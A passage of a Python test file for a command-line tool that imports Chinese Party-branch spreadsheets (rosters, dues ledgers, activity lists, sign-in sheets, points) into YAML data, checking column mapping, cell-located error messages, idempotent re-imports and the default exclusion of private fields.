        f"{sheet}:9月!C5: “帮带新同志”对不上评价体系 data/evaluation.yml 中的任何指标：是不是“谈心·帮带·政治生日组织（O4）”？请写指标名称（如 “政治学习·第一议题出勤”、“领学”）"
        "或代码；扣分写“扣分”，或把分值写成负数；本支部惯用的说法可以写进映射文件的“指标:”下，如“帮带新同志: 谈心·帮带·政治生日组织”，"
        "导入时加 --mapping 映射文件",
        "共 1 处问题，没有导入任何记录：请改正表格后重新导入。"]
    mapping = tmp_path / "映射.yml"
    mapping.write_text("指标:\n  帮带新同志: 帮带\n", encoding="utf-8")
    assert _cli("import", "points", sheet, project, "--mapping", mapping) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"{mapping}:2: “帮带新同志”要对应的“帮带”不是评价体系中的指标：请写指标名称或代码（“政治学习·第一议题出勤（L1）”、")
    assert not (project / "data" / "points").exists()


def test_an_annual_dues_ledger_with_year_and_month_apart_days_only_and_unpaid_rows(project, tmp_path, capsys):
    """The header sits below a title and a unit row; 缴纳日期 has no time; an empty date is a member who has not paid."""
    path = tmp_path / "党费台账.xlsx"
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "2026年"
    for row in (["某党支部2026年度党费收缴台账"], ["填报单位：某党支部", None, None, "单位：元"],
                ["序号", "姓名", "年份", "月份", "应缴金额", "实缴金额", "缴纳日期", "备注"],
                [1, "张示例", 2026, 9, 50, 50, dt.datetime(2026, 9, 5), None],
                [2, "李示例", 2026, "9月", 30, 30, "2026-09-12", None],
                [3, "王示例", 2026, 9, 20, None, None, "出差"],
                [4, "张示例", 2026, 10, 50, 50, "2026年10月8日", None]):
        ws.append(row)
    book.save(path)
    assert _cli("import", "dues", path, project) == 0, capsys.readouterr().err
    out = capsys.readouterr().out
    assert f"读取 {path}（工作表“2026年”），表头在第 3 行。" in out
    assert "导入的列：姓名→党员、年份→所属月份（与月份合起来）、月份→所属月份、缴纳日期→交纳时间（只有日期的按当天 23:59 记）" in out
    assert ("未导入的列：序号（只是行号）；应缴金额（应缴金额反映个人收入，不存入数据文件）；"
            "备注（不认识这个列名，要导入请用 --mapping 指定它对应的字段）") in out
    assert "未导入的隐私列：实缴金额" in out
    assert (f"提示：{path}:2026年!G6: 有 1 条没有缴纳日期（G6 王示例 2026-09），记为未交纳：交纳记录只写已交纳的党员，"
            "网站按交纳人数统计交纳率；已交纳的请补上日期") in out
    assert f"提示：{path}:2026年!G4: 有 3 条只有缴纳日期、没有时刻，按当天 23:59 记" in out
    paid = {d.month: {p.member: p.paid_at for p in d.payments} for d in _branch(project).dues}
    assert paid == {"2026-09": {"m01": dt.datetime(2026, 9, 5, 23, 59), "m02": dt.datetime(2026, 9, 12, 23, 59)},
                    "2026-10": {"m01": dt.datetime(2026, 10, 8, 23, 59)}}
    text = (project / "data/dues/2026-09.yml").read_text(encoding="utf-8")
    assert "    paid_at: 2026-09-05 23:59    # 表格只有日期，按当天 23:59 记\n" in text
    before = _digest(project)
    assert _cli("import", "dues", path, project) == 0
    assert "新增 0 条" in capsys.readouterr().out and _digest(project) == before


def test_a_month_per_column_dues_register_imports_one_payment_a_cell(project, tmp_path, capsys):
    register = [["序号", "姓名", *[f"{m}月" for m in range(1, 13)], "合计"],
                [1, "张示例", dt.datetime(2026, 1, 6), dt.datetime(2026, 2, 3), *[None] * 10, 2],
                [2, "李示例", dt.datetime(2026, 1, 9), None, dt.datetime(2026, 3, 2), *[None] * 9, 2]]
    sheet = _xlsx(tmp_path / "党费登记簿.xlsx", "登记", register, title="2026年党费收缴登记表")
    assert _cli("import", "dues", sheet, project) == 0, capsys.readouterr().err
    out = capsys.readouterr().out
    assert f"读取 {sheet}（工作表“登记”），识别为按月份列登记的党费登记表（第 2 行是表头，12 个月份列），按 2026 年导入。" in out
    assert "未导入的列：序号（只是行号）；合计（网站按交纳记录自己合计）" in out
    assert "导入的列：姓名→党员、1月…12月→所属月份、1月…12月各格的日期→交纳时间（只有日期的按当天 23:59 记）" in out
    assert f"提示：{sheet}:登记!E3: 有 20 条没有缴纳日期（E3 张示例 2026-03；F3 张示例 2026-04；" in out
    paid = {d.month: {p.member: p.paid_at.date() for p in d.payments} for d in _branch(project).dues}
    assert paid == {"2026-01": {"m01": dt.date(2026, 1, 6), "m02": dt.date(2026, 1, 9)},
                    "2026-02": {"m01": dt.date(2026, 2, 3)}, "2026-03": {"m02": dt.date(2026, 3, 2)}}
    before = _digest(project)
    assert _cli("import", "dues", sheet, project) == 0
    assert "新增 0 条" in capsys.readouterr().out and _digest(project) == before


def test_a_register_without_a_year_or_with_amounts_says_what_to_write(project, tmp_path, capsys):
    no_year = _xlsx(tmp_path / "登记簿.xlsx", "登记", [["姓名", "1月", "2月", "3月"], ["张示例", dt.datetime(2026, 1, 6)]])
    assert _cli("import", "dues", no_year, project) == 1
    assert capsys.readouterr().err.splitlines() == [
        f"{no_year}:登记!B1: 这是按月份列登记的党费登记表，但月份列“1月”没有写年份，标题里也没有：请在标题行写上年份（如“2026年党费收缴登记表”），"
        "或把月份列写成“2026年1月”", "没有导入任何记录。"]
    amounts = _xlsx(tmp_path / "登记簿.xlsx", "登记", [["姓名", "1月", "2月", "3月"], ["张示例", 50, "√"]], title="2026年党费登记")
    assert _cli("import", "dues", amounts, project) == 1
    assert capsys.readouterr().err.splitlines() == [
        f"{amounts}:登记!B3: “缴纳日期”这一格是数字“50”（像是金额），不是交纳日期：网站按交纳日期判断是否按时交纳，请写交纳日期，如 2026-03-05",
        f"{amounts}:登记!C3: “缴纳日期”这一格只写了“√”，没有交纳日期：网站按交纳日期判断是否按时交纳，请写交纳日期，如 2026-03-05",
        "共 2 处问题，没有导入任何记录：请改正表格后重新导入。"]
    assert not (project / "data" / "dues").exists()


def _form(path: Path, joined="2005-06-30") -> Path:
    """A 党员信息采集表: label cells with their values to the right, a title merged over the top."""
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "赵建国"
    for row in (["党员信息采集表"], ["姓名", "赵建国", "性别", "男", "民族", "汉族"],
                ["出生年月", "1980.05", "入党时间", joined, "政治面貌", "中共党员"],
                ["工作单位及职务", "综合部主任", None, None, "所在党小组", "第一党小组"],
                ["联系电话", "100-0000-3001", "身份证号码", "000000198005010011"], ["家庭主要成员", None]):
        ws.append(row)
    ws.merge_cells("A1:F1")
    ws.merge_cells("B4:D4")
    book.save(path)
    return path


def test_a_one_person_information_form_imports_that_member(project, tmp_path, capsys):
    form = _form(tmp_path / "党员信息采集表.xlsx")
    assert _cli("import", "roster", form, project) == 0, capsys.readouterr().err
    out = capsys.readouterr().out.splitlines()
    assert out[:4] == [
        f"读取 {form}（工作表“赵建国”），识别为一人一表的“党员信息采集表”（标签格右边是填写的内容），导入这一名党员。",
        "导入的列：姓名→姓名、性别→性别、入党时间→入党时间、政治面貌→党员类别、工作单位及职务→工作岗位、所在党小组→党小组",
        "未导入的隐私列：联系电话、身份证号码（属于个人隐私，默认不存入数据文件；确需保存时加 --keep-private，只存入网站永不显示的隐私字段）",
        "未导入的列：民族、出生年月（网站没有这一项）；家庭主要成员（属于个人隐私（家庭情况），网站永不保存）"]
    member = next(m for m in _branch(project).members if m.name == "赵建国")
    assert (member.gender, member.joined, member.status, member.post, member.group) == (
        "男", dt.date(2005, 6, 30), "正式党员", "综合部主任", "第一党小组")
    before = _digest(project)
    assert _cli("import", "roster", form, project) == 0
    assert "新增 0 条" in capsys.readouterr().out and _digest(project) == before


def test_a_bad_value_in_a_form_is_told_at_its_own_cell(project, tmp_path, capsys):
    form = _form(tmp_path / "党员信息采集表.xlsx", joined="2005-02-30")
    assert _cli("import", "roster", form, project) == 1
    assert capsys.readouterr().err.splitlines()[0] == (
        f"{form}:赵建国!D3: “入党时间”“2005-02-30”不是日历上存在的日期：请核对月份和日")


def test_a_sheet_without_the_kinds_heading_says_what_it_begins_with_and_which_import_fits(project, tmp_path, capsys):
    sheet = _xlsx(tmp_path / "党费.xlsx", "Sheet1", [["党员姓名", "缴费月份", "缴费时间"], ["张示例", "2026-09", "2026-09-01 00:05"]],
                  title="2026年9月党费明细")
    assert _cli("import", "roster", sheet, project) == 1
    assert capsys.readouterr().err.splitlines()[0] == (
        f"{sheet}: 在前 20 行找不到党员名册的表头（第 1 行是“2026年9月党费明细”）：表头应包含 姓名、入党时间 等列；"
        "列名不同时请用 --mapping 指定，如“人员姓名: 姓名”；这张表看起来是党费交纳记录：请用 dangjian import dues")


def test_a_months_activity_list_imports_into_data_activities(project, tmp_path, capsys):
    sheet = _xlsx(tmp_path / "9月活动.xlsx", "9月", [
        ["日期", "活动类型", "主题", "地点", "主持人", "参加人员", "缺席人员", "五有", "备注"],
        ["2026-09-08", "政治学习", "学习《支部工作条例》", "三楼会议室", "张示例", "张示例、李示例", "王示例", None, "x"],
        [dt.datetime(2026, 9, 15), "主题党日活动", "重温入党誓词", None, "李示例", "全体党员", None, "有主题、有记录、有感悟", None],
        ["2026-09-22", "支部委员会", "研究发展党员工作", None, "张示例", "张示例 李示例", None, None, None],
    ], title="某党支部2026年9月活动安排")
    assert _cli("import", "activities", sheet, project) == 0, capsys.readouterr().err
    out = capsys.readouterr().out
    assert "导入的列：日期→日期、活动类型→活动类型、主题→主题、地点→地点、主持人→主持/主办人、参加人员→出席人员、缺席人员→缺席人员、五有→五有落实" in out
    assert "未导入的列：备注（不认识这个列名，要导入请用 --mapping 指定它对应的字段）" in out
    acts = {(a.date, a.type): a for a in _branch(project).activities if a.date.month == 9 and a.date.year == 2026}
    study = acts[(dt.date(2026, 9, 8), "政治学习")]
    assert (study.title, study.place, study.host, study.attendees, study.absent) == (
        "学习《支部工作条例》", "三楼会议室", "m01", ("m01", "m02"), ("m03",))
    day = acts[(dt.date(2026, 9, 15), "主题党日")]
    assert set(day.attendees) == {m.id for m in _branch(project).members}
    assert dict(day.wuyou) == {"theme": True, "record": True, "reflection": True, "evaluation": False, "support": False}
    assert acts[(dt.date(2026, 9, 22), "支委会")].attendees == ("m01", "m02")
    before = _digest(project)
    assert _cli("import", "activities", sheet, project) == 0
    assert "新增 0 条" in capsys.readouterr().out and _digest(project) == before


def test_an_activity_list_row_with_an_unknown_person_or_no_wuyou_is_told_at_its_cell(project, tmp_path, capsys):
    sheet = _xlsx(tmp_path / "活动.xlsx", "Sheet1", [
        ["日期", "活动类型", "主题", "参加人员"],
        ["2026-09-08", "政治学习", "学习", "张示例、赵无名"],
        ["2026-09-15", "主题党日", "重温入党誓词", "张示例"],
        ["2026-09-16", "茶话会", "迎国庆", "张示例"]])
    assert _cli("import", "activities", sheet, project) == 1
    assert capsys.readouterr().err.splitlines() == [
        f"{sheet}:Sheet1!D2: “出席人员”中的“赵无名”不在党员名册 data/members.yml 中：请核对姓名",
        f"{sheet}:Sheet1!B3: 主题党日要写明“五有”落实情况：请加一列“五有”，写“齐全”或写出做到的几项（有主题、有记录、有感悟、有评价、有保障）",
        f"{sheet}:Sheet1!B4: “活动类型”“茶话会”不是可选的值：请写 主题党日、政治学习、支委会、党员大会、党小组会、党课、组织生活会、民主评议、谈心谈话、政治生日、志愿服务、其他 之一",
        "共 3 处问题，没有导入任何记录：请改正表格后重新导入。"]


def _sign_in(path: Path, rows: list[list]) -> Path:
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "签到"
    for row in (["某党支部政治学习签到表"], ["时间：2026年9月8日", None, "活动类型：政治学习"], ["主题：学习《支部工作条例》"],
                ["序号", "姓名", "签到", "备注"], *rows):
        ws.append(row)
    book.save(path)
    return path


def test_a_sign_in_sheet_records_who_attended_and_fills_the_recorded_activity(project, tmp_path, capsys):
    sheet = _sign_in(tmp_path / "签到表.xlsx", [[1, "张示例", "√", None], [2, "李示例", "李示例", None], [3, "王示例", None, "请假：出差"]])
    assert _cli("import", "attendance", sheet, project) == 0, capsys.readouterr().err
    out = capsys.readouterr().out
    assert "导入的列：姓名→党员、签到→签到" in out
    assert "未导入的隐私列：备注" in out
    assert (f"提示：{sheet}:签到!A1: 签到表记为 2026-09-08 的政治学习：出席 2 人，缺席 0 人，请假 1 人"
            "（请假原因属于隐私，默认不导入；要存入只有支委会能看到的请假原因，加 --keep-private）") in out
    study = next(a for a in _branch(project).activities if a.date == dt.date(2026, 9, 8))
    assert (study.type, study.title, study.attendees, study.absent) == ("政治学习", "学习《支部工作条例》", ("m01", "m02"), ("m03",))
    assert [(e.member, e.reason) for e in study.excused] == [("m03", None)]  # counted absent, excused
    before = _digest(project)
    assert _cli("import", "attendance", sheet, project) == 0
    assert "新增 0 条" in capsys.readouterr().out and _digest(project) == before

    # the activity list recorded first (without attendance): the sign-in sheet fills it in, adding no second one
    listed = _xlsx(tmp_path / "活动.xlsx", "Sheet1", [["日期", "活动类型", "主题"], ["2026-09-08", "政治学习", "学习条例"]])
    other = project.parent / "另一个"
    shutil.copytree(project, other)
    shutil.rmtree(other / "data/activities")
    (other / "data/activities").mkdir()
    assert _cli("import", "activities", listed, other) == 0
    assert _cli("import", "attendance", sheet, other) == 0, capsys.readouterr().err
    assert "补填空项 1 条" in capsys.readouterr().out
    [study] = [a for a in _branch(other).activities if a.date == dt.date(2026, 9, 8)]
    assert (study.title, study.attendees) == ("学习条例", ("m01", "m02"))


def test_a_sign_in_sheet_with_names_side_by_side_reads_each_column_and_tells_cells_as_printed(project, tmp_path, capsys):
    sheet = _sign_in(tmp_path / "签到表.xlsx", [])
    book = openpyxl.load_workbook(sheet)
    ws = book.active
    ws.delete_rows(4)
    for row in (["姓名", "签到", "姓名", "签到"], ["张示例", "√", "王示例", "√"], ["李示例", None, "赵无名", "√"]):
        ws.append(row)
    book.save(sheet)
    assert _cli("import", "attendance", sheet, project) == 1
    assert capsys.readouterr().err.splitlines()[0] == (
        f"{sheet}:签到!C6: “赵无名”不在党员名册 data/members.yml 中：请核对姓名，或先用 dangjian import roster 导入名册")
    book = openpyxl.load_workbook(sheet)
    book.active["C6"] = None
    book.active["D6"] = None
    book.save(sheet)
    assert _cli("import", "attendance", sheet, project) == 0, capsys.readouterr().err
    assert "识别为2 栏并排的签到表（第 4 行是表头）" in capsys.readouterr().out
    study = next(a for a in _branch(project).activities if a.date == dt.date(2026, 9, 8))
    assert (study.attendees, study.absent) == (("m01", "m03"), ("m02",))


def test_the_readmes_mapping_file_example_imports_a_ledger_in_the_branchs_own_words(project, tmp_path, capsys):
    readme = (REPO / "README.md").read_text(encoding="utf-8")
    mapping = tmp_path / "映射.yml"
    mapping.write_text(re.search(r"```yaml\n(# 映射\.yml\n.*?)```", readme, re.S).group(1), encoding="utf-8")
    sheet = _xlsx(tmp_path / "积分.xlsx", "Sheet1", [["日期", "人员姓名", "积分项目", "分值", "备用"],
                                                    ["2026-09-26", "李示例", "帮带新同志", 2, "x"],
                                                    ["2026-09-27", "王示例", "无故缺席组织生活", 1, None]])
    assert _cli("import", "points", sheet, project, "--mapping", mapping) == 0, capsys.readouterr().err
    assert "未导入的列：备用（映射文件写明忽略）" in capsys.readouterr().out
    got = {(p.member, p.indicator, p.points, p.note) for p in _branch(project).points}
    assert got >= {("m02", "O4", 2, "帮带新同志"), ("m03", "扣分", 1, "无故缺席组织生活")}


def test_a_roster_with_unit_and_post_apart_keeps_both_in_the_post(project, tmp_path, capsys):
    sheet = _xlsx(tmp_path / "名册.xlsx", "Sheet1", [
        ["姓名", "入党时间", "工作单位", "职务"], ["韩立新", "2001-06-20", "财务部", "科长"], ["程雪", "2016-03-15", "办公室", None]])
    assert _cli("import", "roster", sheet, project) == 0, capsys.readouterr().err
    assert "导入的列：姓名→姓名、入党时间→入党时间、工作单位→工作岗位（与职务合起来）、职务→工作岗位" in capsys.readouterr().out
    posts = {m.name: m.post for m in _branch(project).members}
    assert (posts["韩立新"], posts["程雪"]) == ("财务部科长", "办公室")


def test_every_indicator_is_found_by_its_code_name_and_record_words_with_the_usual_wrapping():
    from generator.tools.layouts import _record_items, match_indicator

    evaluation = load_project(REPO).project.branches[0].evaluation
    for indicator in (i for d in evaluation.dimensions for i in d.indicators):
        said = [indicator.code.lower(), f"{indicator.code} {indicator.name}", indicator.name, f"参加{indicator.name}",
                *_record_items(indicator), *(f"参加{r}" for r in _record_items(indicator))]
        for text in said:
            assert match_indicator(text, evaluation, {}).code == indicator.code, (text, indicator)


def test_an_activity_with_photos_does_not_stop_an_import(project, sheets):
    from PIL import Image

    (project / "content/photos").mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (40, 30), "red").save(project / "content/photos/a.jpg")
    month = next((project / "data/activities").glob("*.yml"))
    text = month.read_text(encoding="utf-8")
    month.write_text(text.replace("  attendees:", "  photos: [photos/a.jpg]\n  attendees:", 1), encoding="utf-8")
    assert _check(project).returncode == 0
    assert _cli("import", "roster", sheets["roster"], project) == 0
    assert {m.name for m in load_project(project).project.branches[0].members} >= {"王建国", "刘晓燕", "孙浩然"}
